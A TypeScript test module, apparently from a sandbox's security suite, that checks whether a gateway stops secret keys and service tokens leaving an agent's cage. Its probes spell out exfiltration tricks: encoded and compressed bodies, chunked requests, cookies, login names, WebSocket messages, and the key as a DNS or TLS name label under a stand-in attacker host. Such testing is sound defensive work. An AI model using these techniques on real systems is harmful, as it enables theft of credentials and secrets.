import { Buffer } from "node:buffer";
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import type { Finding } from "../case.ts";
import { textOf } from "../internet/evidence.ts";
import type { Probe } from "../internet/probe/types.ts";
import { curl, everyProxy, raw, run, udp } from "../internet/probes.ts";
import { formatQuery } from "../internet/dns_query.ts";
import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
import { isAnswered, isDenied, listArrivals, listValuesIn } from "./seen.ts";
import { spell, SPELLINGS } from "./spellings.ts";
import { TOKEN_HOMES, TOKENS } from "./tokens.ts";

const SUITE = "secrets";

/** Only a cage that stops what it finds can be tried: one that tells of it lets it out. */
async function whereStopped(
  { guarded }: SecretsGiven,
  check: () => Promise<Finding>,
): Promise<Finding | { notApplicable: string }> {
  const { secrets } = guarded.cage.config.inspect;
  if (secrets === "block") return await check();
  return { notApplicable: `inspect.secrets is ${secrets}: what is found is not stopped` };
}

/** Something to be sent, in one way each; the same is tried with a value that is nobody's. */
type Way = readonly [what: string, probe: (id: string, text: string) => Probe];

const PLACES: readonly Way[] = [
  ["a header", (id, text) => sendOpened(id, `GET / HTTP/1.1\r\nX: a${text}b\r\n`)],
  ["a query", (id, text) => sendOpened(id, `GET /?x=a${text}b HTTP/1.1\r\n`)],
  ["a body", (id, text) => sendOpened(id, formatPost(SITE.opened, `a${text}b`))],
  ["plain HTTP", (id, text) => sendPlain(id, formatPost(SITE.closed, `a${text}b`))],
  [
    "pieces",
    (id, text) => sendPlain(id, formatPieces(SITE.closed, [...`a${text}b`])),
  ],
];

function sendPlain(id: string, request: string): Probe {
  return raw(id, { host: "@gateway", port: 80, send: [request] });
}

/** To the host whose TLS is opened; what ends with its head is given the rest of it. */
function sendOpened(id: string, request: string): Probe {
  const rest = `Host: ${SITE.opened}\r\nConnection: close\r\n\r\n`;
  const isWhole = request.includes("\r\n\r\n");
  return raw(id, {
    ...{ host: "@gateway", port: 443, tls: { sni: SITE.opened } },
    send: [isWhole ? request : request + rest],
  });
}

function formatPost(host: string, body: string): string {
  return `POST / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n` +
    `Content-Length: ${body.length}\r\n\r\n${body}`;
}

/** A chunked request, one chunk for each piece. */
function formatPieces(host: string, pieces: readonly string[]): string {
  const chunks = pieces.map((piece) => `${piece.length.toString(16)}\r\n${piece}\r\n`).join("");
  return `POST / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n` +
    `Transfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`;
}

/** Sends a value and one like it in many ways: the one stops, the other arrives. */
async function judgeWays(
  { guarded, secrets }: SecretsGiven,
  ways: readonly { what: string; probe(id: string, value: string): Probe }[],
): Promise<Finding> {
  const unreal = `tried-none-${crypto.randomUUID()}/+=77ab`;
  const outcomes = await guarded.probe(ways.flatMap(({ what, probe }) => [
    probe(what, secrets.body.value),
    probe(`control ${what}`, unreal),
  ]));
  const arrived = listValuesIn(textOf(await guarded.internet.events()), secrets);
  // A WebSocket says a message back as it is, in a list of all.
  const isSent = (id: string) => /"request":\d|^\["/.test(outcomes.get(id).data);
  const passed = ways.filter(({ what }) => isSent(what));
  const untold = ways.filter(({ what }) => {
    const { data, code } = outcomes.get(what);
    const isStopped = isDenied(data, "secret-leak", "encoding") || code === POLICY_CLOSE;
    return !isStopped || !isSent(`control ${what}`);
  });
  const evidence = [
    ...passed.map(({ what }) => `${what}: sent on`),
    ...arrived.map((what) => `${what}, arrived`),
  ];
  return {
    held: evidence.length === 0,
    control: untold.length === 0,
    seen: untold.length === 0
      ? `${ways.length} ways, 0 arrived; each arrived with a random value`
      : `cannot be told of: ${untold.slice(0, 3).map(({ what }) => what).join(", ")}`,
    evidence,
  };
}

/** How the gateway ends a WebSocket that it stops, RFC 6455 section 7.4.1. */
const POLICY_CLOSE = 1008;

function checkSpellings(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const ways = SPELLINGS.flatMap((spelling) =>
    PLACES.map(([place, probe]) => ({
      what: `${spelling} in ${place}`,
      probe: (id: string, value: string) => probe(id, spell(value, spelling)),
    }))
  );
  return whereStopped(given, () => judgeWays(given, ways));
}

/** Far more than is held back before the first byte leaves. */
const FILLER_BYTES = 1024 * 1024;

const PACKERS: Readonly<Record<string, (bytes: Buffer) => Uint8Array>> = {
  gzip: gzipSync,
  br: brotliCompressSync,
  deflate: deflateSync,
  zstd: zstdCompressSync,
};

/** curl with a body that is given in base64, as no JSON line can hold it otherwise. */
function sendBytes(id: string, bytes: Uint8Array, args: readonly string[]): Probe {
  return run(id, [
    ...["sh", "-c", 'base64 -d | curl -sS -m 10 --data-binary @- "$@"', "sh", ...args],
  ], { stdin: Buffer.from(bytes).toString("base64") });
}

const PACKED: readonly Way[] = [
  ...Object.entries(PACKERS).map(([coding, pack]): Way => [
    coding,
    (id, text) =>
      sendBytes(id, pack(Buffer.from(`before ${text} behind`)), [
        ...["-H", `content-encoding: ${coding}`, `https://${SITE.opened}/`],
      ]),
  ]),
  [
    "a megabyte in front",
    (id, text) =>
      run(id, [
        "sh",
        "-c",
        `{ head -c ${FILLER_BYTES} /dev/zero | tr '\\0' a; cat; } | ` +
        `curl -sS -m 10 -H content-type:text/plain --data-binary @- https://${SITE.opened}/`,
      ], { stdin: text }),
  ],
  [
    "escapes of JSON",
    (id, text) =>
      run(id, ["sh", "-c", `curl -sS -m 10 --json @- https://${SITE.opened}/`], {
        stdin: JSON.stringify({ text }).replaceAll("/", "\\/"),
      }),
  ],
  [
    "percent signs twice",
    (id, text) => {
      const once = spell(text, "percent-encoded");
      return curl(id, [`https://${SITE.opened}/?x=${once.replaceAll("%", "%25")}`]);
    },
  ],
  [
    "a cookie behind others",
    (id, text) => curl(id, ["-b", `a=1; b=${text}`, `https://${SITE.opened}/`]),
  ],
  [
    "a WebSocket message",
    (id, text) => ({ id, kind: "websocket", url: `wss://${SITE.opened}/`, send: [`a${text}b`] }),
  ],
  ["the name of a login", (id, text) => curl(id, ["-u", `${text}:x`, `http://${SITE.closed}/`])],
];

async function checkPacked(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const ways = PACKED.map(([what, probe]) => ({ what, probe }));
  return await whereStopped(given, () => judgeWays(given, ways));
}

async function checkTokens(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const { internet, probe } = given.guarded;
  const { echo } = internet.addresses;
  const send = (id: string, { token, host }: { token: string; host: string }) =>
    curl(id, ["-H", `authorization: Bearer ${token}`, `http://${host}/`]);
  return await whereStopped(given, async () => {
    for (const host of TOKEN_HOMES) internet.script(host, { answers: [[echo]] });
    const outcomes = await probe(TOKENS.flatMap(([what, token, home]) => [
      send(`${what} elsewhere`, { token, host: SITE.closed }),
      send(`${what} at home`, { token, host: home }),
    ]));
    const arrivals = listArrivals(await internet.events()).filter(({ host }) =>
      host === SITE.closed
    );
    const listWhere = (where: string, is: (data: string) => boolean) =>
      TOKENS.filter(([what]) => is(outcomes.get(`${what} ${where}`).data));
    const told = listWhere("elsewhere", (data) => isDenied(data, "secret-foreign"));
    const home = listWhere("at home", isAnswered);
    const evidence = arrivals.flatMap((arrival) =>
      TOKENS.filter(([, token]) => JSON.stringify(arrival.headers).includes(token))
        .map(([what]) => `${what} arrived at ${arrival.host}`)
    );
    return {
      held: evidence.length === 0,
      control: home.length === TOKENS.length && told.length === TOKENS.length,
      seen: `${TOKENS.length} formats, ${evidence.length} elsewhere, ${home.length} at home`,
      evidence,
    };
  });
}

async function checkNames(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const { internet, probe } = given.guarded;
  const { value } = given.secrets.key;
  const direct = { env: everyProxy(null) };
  const tries = [
    udp("a question to the gateway", { hex: formatQuery(`${value}.${SITE.evil}`) }),
    curl("a client without a proxy", [`http://${value}.${SITE.evil}/`], direct),
    curl("plain HTTP through the proxy", [`http://${value}.${SITE.evil}/`]),
    curl("a tunnel", [`https://${value}.${SITE.evil}/`]),
    raw("a name in TLS", {
      ...{ host: "@gateway", port: 443, tls: { sni: `${value}.${SITE.evil}` } },
    }),
    curl("a user in the address", [`http://${value}:x@${SITE.closed}/`]),
    curl("below an allowed name", [`http://${value}.${SITE.wild}/`]),
    curl("below an allowed name, without a proxy", [`http://${value}.${SITE.wild}/`], direct),
    curl("a tunnel below an allowed name", [`https://${value}.${SITE.wild}/`]),
    raw("TLS below an allowed name, in capitals and two labels", {
      ...{ host: "@gateway", port: 443 },
      tls: { sni: `${value.slice(0, 20)}.${value.slice(20)}.${SITE.wild}`.toUpperCase() },
    }),
  ];
  return await whereStopped(given, async () => {
    await probe([...tries, curl("control", [`http://tried.${SITE.wild}/`])]);
    const events = await internet.events();
    // Names know no case, and a long one takes several labels.
    const letters = (text: string) => text.toLowerCase().replaceAll(".", "");
    const evidence = events.filter((event) => letters(JSON.stringify(event)).includes(value))
      .map(({ kind }) => `the value of ${given.secrets.key.name}: ${kind}`);
    const questions = events.flatMap((event) => event.kind === "dns" ? [event.name] : []);
    return {
      held: evidence.length === 0,
      control: questions.includes(`tried.${SITE.wild}`),
      seen: `${tries.length} names and addresses, 0 questions`,
      evidence,
    };
  });
}

/** A real value that got inside by another way, on its way out. */
export const LEAVING_CASES: readonly SecretCase[] = [
  {
    id: "S04",
    suite: SUITE,
    title: "a real value does not leave, however it is spelled",
    threat: "a key that lies in a file of the project is sent to whoever asks the agent for it",
    expectation:
      "seven spellings in header, query, body, plain HTTP and pieces are stopped; a random value passes in each",
    source: "agentcage",
    brokenBy: "one spelling is not looked for",
    quick: false,
    check: checkSpellings,
  },
  {
    id: "S06",
    suite: SUITE,
    title: "tokens of well-known services go to these services alone",
    threat: "tokens that sandcage was never told of are copied from a project to a stranger",
    expectation: "each format stopped toward a foreign host; each arrives at its own",
    source: "agentcage",
    brokenBy: "formats of tokens are not known",
    quick: false,
    check: checkTokens,
  },
  {
    id: "S12",
    suite: SUITE,
    title: "a real value does not leave packed",
    threat: "a compressed body, or a long one, hides the key from a search of what is on the line",
    expectation:
      "four compressions, a megabyte in front, escapes, cookies and logins are stopped; a random value passes in each",
    source: "sandcage",
    brokenBy: "what is compressed is not unpacked",
    quick: false,
    check: checkPacked,
  },
  {
    id: "S17",
    suite: SUITE,
    title: "a real value does not leave as a name",
    threat: "a name server gets the key as a label of a name that nobody needs to allow",
    expectation:
      "no question and no packet with it, also below an allowed name; another such name is asked for",
    source: "sandcage",
    brokenBy: "names are not searched for values",
    quick: false,
    check: checkNames,
  },
];
